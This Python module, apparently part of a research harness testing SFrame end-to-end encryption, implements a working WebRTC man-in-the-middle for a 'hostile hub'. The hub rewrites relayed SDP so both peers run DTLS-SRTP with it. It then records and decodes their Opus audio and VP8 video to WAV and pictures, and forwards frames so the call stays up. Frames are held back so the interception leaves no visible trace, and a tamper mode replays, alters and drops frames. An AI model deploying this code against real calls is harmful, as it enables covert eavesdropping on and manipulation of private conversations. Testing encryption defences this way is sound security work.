"""The hostile hub's dtls-mitm capability: a media man in the middle built from real WebRTC.

A hub that relays the peers' SDP can answer the offerer itself and offer to the answerer itself,
so that each peer runs DTLS-SRTP with the hub instead of with the other peer. DTLS fingerprints
travel in that same SDP, so nothing in plain WebRTC lets the peers notice. `MediaMitm` is that
attack as a reusable object: two aiortc peer connections (one leg toward each peer, each with its
own ICE candidates and certificate) whose receivers hand every reassembled encoded frame to the
MITM instead of a decoder. The MITM records the frame (it is what SRTP decryption yielded) and
forwards it unchanged, as a pre-encoded `av.Packet`, to a track on the other leg, so the call keeps
working. Afterwards it tries real Opus and VP8 decoders on what it recorded: against plain WebRTC
that recovers the call; against SFrame it recovers nothing, because what SRTP protected was
already end-to-end ciphertext, unless the hub also holds the SFrame keys (the keyswap attack): then
a `RelayTransform` opens each frame from one leg (what is recorded and decoded) and seals it again
for the other.

Only `client.frame_transform` touches aiortc internals; this module uses its public API.
"""

from __future__ import annotations

import asyncio
import enum
import sys
import wave
from array import array
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from fractions import Fraction
from pathlib import Path
from typing import Literal, Protocol

import av
from aiortc import (
    MediaStreamTrack,
    RTCConfiguration,
    RTCPeerConnection,
    RTCRtpReceiver,
    RTCRtpSender,
    RTCSessionDescription,
)
from aiortc.mediastreams import MediaStreamError
from aiortc.rtp import RtpPacket

from client.frame_transform import (
    SDP_ERRORS,
    install_packet_observer,
    install_receiver_transform,
    request_keyframe,
)

Kind = Literal["audio", "video"]

OPUS_CLOCK_RATE = 48_000
VP8_CLOCK_RATE = 90_000
# aiortc (like browsers by default) sends 20 ms Opus frames. The MITM cannot read the duration
# from an SFrame-encrypted frame, so it stamps forwarded audio at this fixed step.
OPUS_FRAME_SAMPLES = 960
CODEC_MIME_TYPES: dict[Kind, tuple[str, ...]] = {
    "audio": ("audio/opus",),
    "video": ("video/VP8", "video/rtx"),
}


class InterceptionError(Exception):
    """Base class of every error raised by the media man in the middle."""


class SdpRejected(InterceptionError, ValueError):
    """A peer's SDP describes media this MITM cannot sit in the middle of."""


class InterceptionStateError(InterceptionError, RuntimeError):
    """The MITM was driven out of order (answer before offer, a second offer, use after close)."""


def _describe(error: Exception) -> str:
    return str(error) or type(error).__name__


class Direction(enum.Enum):
    """Which way a frame travelled, named after the roles in the intercepted offer/answer."""

    OFFERER_TO_ANSWERER = "offerer-to-answerer"
    ANSWERER_TO_OFFERER = "answerer-to-offerer"


class RelayTransform(Protocol):
    """What the MITM does to each frame between its legs (keyswap: SFrame off, then on again;
    tamper: some frames replayed, altered or dropped)."""

    def open(self, direction: Direction, kind: Kind, frame: bytes) -> bytes | None:
        """The frame as the MITM can read it (recorded, decoded and forwarded), or None if it
        cannot: then the frame is recorded as received and not forwarded."""

    def seal(self, direction: Direction, kind: Kind, frame: bytes) -> Sequence[bytes]:
        """The frames an opened frame becomes on the destination leg, sent in this order: usually
        one; none drops it; more inject frames (a tampering hub's replays)."""


@dataclass
class TamperCounts:
    dropped: int = 0
    replayed: int = 0
    altered: int = 0


TAMPER_ACTIONS = ("dropped", "replayed", "altered")


@dataclass
class _TamperedStream:
    """One direction and kind of relayed frames, as the tampering hub sends them on."""

    offered: int = 0  # frames handed to the tamper
    sent: int = 0  # frames it let through or injected: the position in the stream the peer gets
    held: bytes | None = None  # a forwarded frame's copy, replayed after the next frame
    # (position in the sent stream, "replayed" | "altered" | "dropped")
    actions: list[tuple[int, str]] = field(default_factory=list)


class MediaTamper:
    """The hostile hub's ``tamper`` on relayed media: a `RelayTransform` around the relay's own
    (``inner``; None relays frames as received).

    In every ``period`` frames of each direction and kind, after the first ``period`` (the call
    settles first), it replays one (a copy sent again after the next frame), alters one (its
    last bit flipped: for SFrame, a bit of the tag) and drops one. Deterministic, so that what it
    did can be compared frame for frame with what the peers rejected: `counts` tells how many
    of each it did within the first N frames of a stream a peer received.
    """

    REPLAY_SLOT = 0
    ALTER_SLOT_FRACTION = 3  # alter at period // 3, drop at 2 * period // 3

    def __init__(
        self,
        inner: RelayTransform | None = None,
        *,
        period: int = 20,
        replay: bool = True,
        alter: bool = True,
        drop: bool = True,
    ) -> None:
        if period < 3:
            raise ValueError("period must be at least 3: one replay, alteration and drop each")
        self._inner = inner
        self._period = period
        self._replay, self._alter, self._drop = replay, alter, drop
        self._alter_slot = period // self.ALTER_SLOT_FRACTION
        self._drop_slot = 2 * period // self.ALTER_SLOT_FRACTION
        self._streams: dict[tuple[Direction, Kind], _TamperedStream] = {}

    def open(self, direction: Direction, kind: Kind, frame: bytes) -> bytes | None:
        return frame if self._inner is None else self._inner.open(direction, kind, frame)

    def seal(self, direction: Direction, kind: Kind, frame: bytes) -> list[bytes]:
        sealed = [frame] if self._inner is None else self._inner.seal(direction, kind, frame)
        stream = self._streams.setdefault((direction, kind), _TamperedStream())
        return [sent for each in sealed for sent in self._tamper(stream, each)]

    def counts(self, direction: Direction, kind: Kind, within: int | None = None) -> TamperCounts:
        """What it did to one stream, to its first ``within`` sent frames (None: all of it)."""
        stream = self._streams.get((direction, kind), _TamperedStream())
        done = [what for position, what in stream.actions if within is None or position < within]
        return TamperCounts(**{what: done.count(what) for what in TAMPER_ACTIONS})

    def _tamper(self, stream: _TamperedStream, frame: bytes) -> list[bytes]:
        slot = stream.offered % self._period if stream.offered >= self._period else None
        stream.offered += 1
        if slot == self._drop_slot and self._drop:
            stream.actions.append((stream.sent, "dropped"))
            return []
        if slot == self._alter_slot and self._alter and frame:
            stream.actions.append((stream.sent, "altered"))
            sent = [frame[:-1] + bytes([frame[-1] ^ 1])]
        else:
            sent = [frame]
        if stream.held is not None:
            stream.actions.append((stream.sent + 1, "replayed"))
            sent.append(stream.held)
            stream.held = None
        if slot == self.REPLAY_SLOT and self._replay:
            stream.held = frame
        stream.sent += len(sent)
        return sent


@dataclass(frozen=True)
class InterceptedFrame:
    """One encoded frame as the MITM held it after SRTP decryption and depacketization."""

    direction: Direction
    kind: Kind
    arrival: float  # seconds since the MITM was created
    forwarded: bool  # False: dropped (other leg not up yet, held for a keyframe, or sender behind)
    data: bytes = field(repr=False)


@dataclass(frozen=True)
class InterceptedPacket:
    """One RTP packet as the MITM held it after SRTP decryption (before RTX unwrapping)."""

    direction: Direction
    kind: Kind
    arrival: float  # seconds since the MITM was created
    ssrc: int
    payload_type: int
    sequence_number: int
    timestamp: int
    marker: bool
    payload: bytes = field(repr=False)


@dataclass(frozen=True)
class RecoveredAudio:
    """What a real Opus decoder made of intercepted frames: mono signed 16-bit samples."""

    samples: array[int] = field(repr=False)
    sample_rate: int
    frames_decoded: int
    frames_failed: int

    @property
    def seconds(self) -> float:
        return len(self.samples) / self.sample_rate


@dataclass(frozen=True)
class RecoveredVideo:
    """What a real VP8 decoder made of intercepted frames (only the last picture is kept)."""

    frames_decoded: int
    frames_failed: int
    last_frame: av.VideoFrame | None = field(repr=False)


def decode_opus(frames: Iterable[bytes]) -> RecoveredAudio:
    """Decode Opus frames in order with libopus, downmixed to mono at 48 kHz."""
    decoder = av.CodecContext.create("libopus", "r")
    decoder.sample_rate = OPUS_CLOCK_RATE
    to_mono = av.AudioResampler(format="s16", layout="mono", rate=OPUS_CLOCK_RATE)
    samples = array("h")
    decoded = failed = 0
    for data in frames:
        try:
            pictures = decoder.decode(av.Packet(data))
        except av.FFmpegError:
            failed += 1
            continue
        decoded += 1
        for frame in pictures:
            for mono in to_mono.resample(frame):
                samples.frombytes(bytes(mono.planes[0])[: mono.samples * samples.itemsize])
    return RecoveredAudio(samples, OPUS_CLOCK_RATE, decoded, failed)


def decode_vp8(frames: Iterable[bytes]) -> RecoveredVideo:
    """Decode VP8 frames in order with libvpx, as a receiver would after depacketization."""
    decoder = av.CodecContext.create("libvpx", "r")
    last: av.VideoFrame | None = None
    decoded = failed = 0
    for data in frames:
        try:
            pictures = decoder.decode(av.Packet(data))
        except av.FFmpegError:
            failed += 1
            continue
        for picture in pictures:
            decoded += 1
            last = picture
    return RecoveredVideo(decoded, failed, last)


def write_wav(path: Path, audio: RecoveredAudio) -> None:
    """Write recovered audio as a mono 16-bit PCM WAV file."""
    with wave.open(str(path), "wb") as wav:
        wav.setnchannels(1)
        wav.setsampwidth(2)
        wav.setframerate(audio.sample_rate)
        little_endian = array("h", audio.samples)
        if sys.byteorder == "big":
            little_endian.byteswap()
        wav.writeframes(little_endian.tobytes())


def media_kinds(sdp: str) -> list[Kind]:
    """The kinds of the media sections of an SDP, in order (RFC 8866 "m=" lines)."""
    kinds: list[Kind] = []
    for line in sdp.splitlines():
        if not line.startswith("m="):
            continue
        kind = line[2:].split(" ", 1)[0]
        if kind == "audio":
            kinds.append("audio")
        elif kind == "video":
            kinds.append("video")
        else:
            raise SdpRejected(f"cannot intercept a {kind!r} media section")
    if not kinds:
        raise SdpRejected("the offer has no media section")
    return kinds


class PacketRelayTrack(MediaStreamTrack):
    """A track that hands pre-encoded packets to the sender, which packetizes them unchanged."""

    def __init__(self, kind: Kind, *, max_queued: int) -> None:
        super().__init__()
        self.kind = kind
        self._packets: asyncio.Queue[av.Packet[av.stream.Stream]] = asyncio.Queue(
            maxsize=max_queued
        )

    def push(self, packets: Sequence[av.Packet[av.stream.Stream]]) -> bool:
        """Queue packets for sending, all or none; False (and dropped) if the sender has fallen
        behind."""
        if self._packets.maxsize - self._packets.qsize() < len(packets):
            return False
        for packet in packets:
            self._packets.put_nowait(packet)
        return True

    async def recv(self) -> av.Packet[av.stream.Stream]:
        if self.readyState != "live":
            raise MediaStreamError
        return await self._packets.get()


class _Timestamper:
    """RTP-clock timestamps for forwarded frames, strictly increasing as packetizers need."""

    def __init__(self, kind: Kind, clock: Callable[[], float]) -> None:
        self._kind = kind
        self._clock = clock
        self._origin: float | None = None
        self._last = -1

    def stamp(self, data: bytes) -> av.Packet[av.stream.Stream]:
        packet = av.Packet(data)
        if self._kind == "audio":
            packet.pts = self._last + OPUS_FRAME_SAMPLES if self._last >= 0 else 0
            packet.time_base = Fraction(1, OPUS_CLOCK_RATE)
        else:
            # Video frame rates vary, so stamp by arrival time.
            now = self._clock()
            if self._origin is None:
                self._origin = now
            packet.pts = max(round((now - self._origin) * VP8_CLOCK_RATE), self._last + 1)
            packet.time_base = Fraction(1, VP8_CLOCK_RATE)
        self._last = packet.pts
        return packet


@dataclass
class _Route:
    """One media section seen from the MITM: received on one leg, re-sent on the other."""

    direction: Direction
    kind: Kind
    receiver: RTCRtpReceiver
    outgoing: PacketRelayTrack
    destination: RTCPeerConnection
    timestamper: _Timestamper
    transform: RelayTransform | None = None
    # Set once a readable VP8 keyframe went by: the stream is plain VP8, not SFrame ciphertext.
    plain_vp8: bool = False
    keyframe_forwarded: bool = False

    def forward(self, data: bytes) -> bool:
        """Send a frame on the destination leg; False if it was dropped.

        Dropped: everything while the leg is down (aiortc's sender does not read yet, and the
        frames would be stale by then), and plain VP8 inter frames until a keyframe went out
        (the destination's decoder could not use them, and its decode errors would be a trace
        of the MITM). SFrame ciphertext cannot be told apart, so it all goes through.
        """
        keyframe = self.kind == "video" and is_vp8_keyframe(data)
        self.plain_vp8 = self.plain_vp8 or keyframe
        if self.destination.connectionState != "connected":
            return False
        if self.plain_vp8 and not self.keyframe_forwarded and not keyframe:
            return False
        sealed = (
            [data]
            if self.transform is None
            else self.transform.seal(self.direction, self.kind, data)
        )
        if not sealed or not self.outgoing.push([self.timestamper.stamp(f) for f in sealed]):
            return False
        self.keyframe_forwarded = self.keyframe_forwarded or keyframe
        return True


def is_vp8_keyframe(frame: bytes) -> bool:
    """Whether an encoded frame is a VP8 keyframe (RFC 6386 section 9.1: P bit clear, then
    the start code 9d 01 2a after the 3-byte frame tag)."""
    return len(frame) >= 10 and frame[0] & 1 == 0 and frame[3:6] == b"\x9d\x01\x2a"


class MediaMitm:
    """Terminates DTLS-SRTP with both peers of a call and relays their media between the legs.

    Drive it from the hub's SDP relay: `intercept_offer` turns the offerer's offer into the MITM's
    offer for the answerer, `intercept_answer` turns the answerer's answer into the MITM's answer
    for the offerer. Candidates are gathered before each SDP is returned (no trickle ICE).

    `relay_transform`: applied to every frame between the legs (opened before it is recorded and
    decoded, sealed again before it is forwarded); without it frames are relayed as received.
    """

    def __init__(
        self,
        *,
        configuration: RTCConfiguration | None = None,
        max_recorded_bytes: int = 64 * 2**20,
        max_queued_frames: int = 64,
        relay_transform: RelayTransform | None = None,
    ) -> None:
        # aiortc falls back to a public STUN server when given no configuration; a hub attacking
        # calls on its own network needs none, and must not stall on an unreachable one.
        config = configuration if configuration is not None else RTCConfiguration(iceServers=[])
        self._toward_offerer = RTCPeerConnection(config)
        self._toward_answerer = RTCPeerConnection(config)
        self._max_recorded_bytes = max_recorded_bytes
        self._max_queued_frames = max_queued_frames
        self._relay_transform = relay_transform
        self._loop = asyncio.get_running_loop()
        self._started_at = self._loop.time()
        self._routes: list[_Route] = []
        self._frames: list[InterceptedFrame] = []
        self._packets: list[InterceptedPacket] = []
        self._recorded_bytes = 0
        self._unrecorded = 0
        self._phase: Literal["new", "offered", "answered", "rejected", "closed"] = "new"
        for leg in (self._toward_offerer, self._toward_answerer):
            leg.on("connectionstatechange", self._keyframe_requester(leg))

    @property
    def frames(self) -> list[InterceptedFrame]:
        """Every frame recorded so far, in arrival order."""
        return list(self._frames)

    @property
    def packets(self) -> list[InterceptedPacket]:
        """Every RTP packet recorded so far, in arrival order."""
        return list(self._packets)

    @property
    def unrecorded(self) -> int:
        """Frames and packets not recorded because `max_recorded_bytes` was reached."""
        return self._unrecorded

    @property
    def connection_states(self) -> tuple[str, str]:
        """The connection state of the leg toward the offerer and toward the answerer."""
        return self._toward_offerer.connectionState, self._toward_answerer.connectionState

    def intercepted(self, direction: Direction, kind: Kind) -> list[bytes]:
        """The encoded frames of one direction and kind, in arrival order."""
        return [f.data for f in self._frames if f.direction is direction and f.kind == kind]

    def recovered_audio(self, direction: Direction) -> RecoveredAudio:
        """Decode one direction's audio as recorded so far (each call decodes it again: keep
        the result; `write_wav` writes it)."""
        return decode_opus(self.intercepted(direction, "audio"))

    def recovered_video(self, direction: Direction) -> RecoveredVideo:
        """Decode one direction's video as recorded so far (each call decodes it again: keep
        the result)."""
        return decode_vp8(self.intercepted(direction, "video"))

    async def intercept_offer(self, offer_sdp: str) -> str:
        """Accept the offerer's offer on one leg; return the MITM's own offer for the answerer."""
        if self._phase != "new":
            raise InterceptionStateError(f"intercept_offer called when {self._phase}")
        kinds = media_kinds(offer_sdp)
        self._phase = "offered"
        # Transceivers are created before the offer is applied so that aiortc matches them to
        # its media sections in order and negotiates only the codecs the relay can forward.
        for kind in kinds:
            self._add_section(kind)
        try:
            await self._toward_offerer.setRemoteDescription(
                RTCSessionDescription(sdp=offer_sdp, type="offer")
            )
        except SDP_ERRORS as exc:
            self._phase = "rejected"
            raise SdpRejected(f"offer rejected: {_describe(exc)}") from None
        await self._toward_answerer.setLocalDescription(await self._toward_answerer.createOffer())
        return str(self._toward_answerer.localDescription.sdp)

    async def intercept_answer(self, answer_sdp: str) -> str:
        """Accept the answerer's answer on its leg; return the MITM's own answer for the offerer."""
        if self._phase != "offered":
            raise InterceptionStateError(f"intercept_answer called when {self._phase}")
        self._phase = "answered"
        try:
            await self._toward_answerer.setRemoteDescription(
                RTCSessionDescription(sdp=answer_sdp, type="answer")
            )
        except SDP_ERRORS as exc:
            self._phase = "rejected"
            raise SdpRejected(f"answer rejected: {_describe(exc)}") from None
        await self._toward_offerer.setLocalDescription(await self._toward_offerer.createAnswer())
        return str(self._toward_offerer.localDescription.sdp)

    async def close(self) -> None:
        """Hang up both legs. Recorded frames stay available."""
        self._phase = "closed"
        for route in self._routes:
            route.outgoing.stop()
        await self._toward_offerer.close()
        await self._toward_answerer.close()

    def _add_section(self, kind: Kind) -> None:
        """A media section on both legs, and the two routes that relay it across."""
        receivers: dict[RTCPeerConnection, RTCRtpReceiver] = {}
        relays: dict[RTCPeerConnection, PacketRelayTrack] = {}
        codecs = [
            codec
            for codec in RTCRtpSender.getCapabilities(kind).codecs
            if codec.mimeType in CODEC_MIME_TYPES[kind]
        ]
        for leg in (self._toward_offerer, self._toward_answerer):
            relays[leg] = PacketRelayTrack(kind, max_queued=self._max_queued_frames)
            transceiver = leg.addTransceiver(relays[leg], direction="sendrecv")
            transceiver.setCodecPreferences(codecs)
            receivers[leg] = transceiver.receiver
        for direction, source, destination in (
            (Direction.OFFERER_TO_ANSWERER, self._toward_offerer, self._toward_answerer),
            (Direction.ANSWERER_TO_OFFERER, self._toward_answerer, self._toward_offerer),
        ):
            self._add_route(
                _Route(
                    direction=direction,
                    kind=kind,
                    receiver=receivers[source],
                    outgoing=relays[destination],
                    destination=destination,
                    timestamper=_Timestamper(kind, self._loop.time),
                    transform=self._relay_transform,
                )
            )

    def _add_route(self, route: _Route) -> None:
        direction, kind = route.direction, route.kind
        self._routes.append(route)

        def intercept(frame: bytes) -> bytes | None:
            self._relay(route, frame)
            return None  # nothing reaches the MITM leg's own decoder

        def observe(packet: RtpPacket) -> None:
            if not self._reserve(len(packet.payload)):
                return
            self._packets.append(
                InterceptedPacket(
                    direction=direction,
                    kind=kind,
                    arrival=self._loop.time() - self._started_at,
                    ssrc=packet.ssrc,
                    payload_type=packet.payload_type,
                    sequence_number=packet.sequence_number,
                    timestamp=packet.timestamp,
                    marker=bool(packet.marker),
                    payload=bytes(packet.payload),
                )
            )

        install_receiver_transform(route.receiver, intercept)
        install_packet_observer(route.receiver, observe)

    def _reserve(self, size: int) -> bool:
        if self._recorded_bytes + size > self._max_recorded_bytes:
            self._unrecorded += 1
            return False
        self._recorded_bytes += size
        return True

    def _relay(self, route: _Route, data: bytes) -> None:
        if route.transform is not None:
            opened = route.transform.open(route.direction, route.kind, data)
            data, forwarded = (data, False) if opened is None else (opened, route.forward(opened))
        else:
            forwarded = route.forward(data)
        if not self._reserve(len(data)):
            return
        self._frames.append(
            InterceptedFrame(
                direction=route.direction,
                kind=route.kind,
                arrival=self._loop.time() - self._started_at,
                forwarded=forwarded,
                data=data,
            )
        )

    def _keyframe_requester(self, leg: RTCPeerConnection) -> Callable[[], None]:
        # A pre-encoded stream cannot be told to make a keyframe (aiortc's sender ignores the
        # destination's PLI for packets), so when a leg comes up, ask the source of every video
        # stream sent on it for one: that leg's decoder must start from a keyframe.
        def on_connection_state_change() -> None:
            if leg.connectionState != "connected":
                return
            for route in self._routes:
                if route.kind == "video" and route.destination is leg:
                    request_keyframe(route.receiver)

        return on_connection_state_change
